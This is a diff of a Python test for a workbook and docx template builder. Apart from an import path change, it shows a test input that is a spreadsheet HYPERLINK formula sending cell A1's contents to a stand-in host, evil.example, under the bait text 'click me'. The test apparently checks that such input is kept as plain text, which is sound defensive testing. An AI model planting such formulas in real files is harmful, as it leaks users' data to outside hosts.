@@ -801,7 +801,7 @@ def test_hyperlink_typed_as_unit_name_is_text_everywhere(tmp_path, capsys):
 
     import docx
 
-    from workbook_templates.build import build_workbook
+    from addin.template.workbook import build_workbook
     from workbook_templates.examples import EXAMPLES
 
     evil = '=HYPERLINK("http://evil.example/?q="&A1,"点我")'
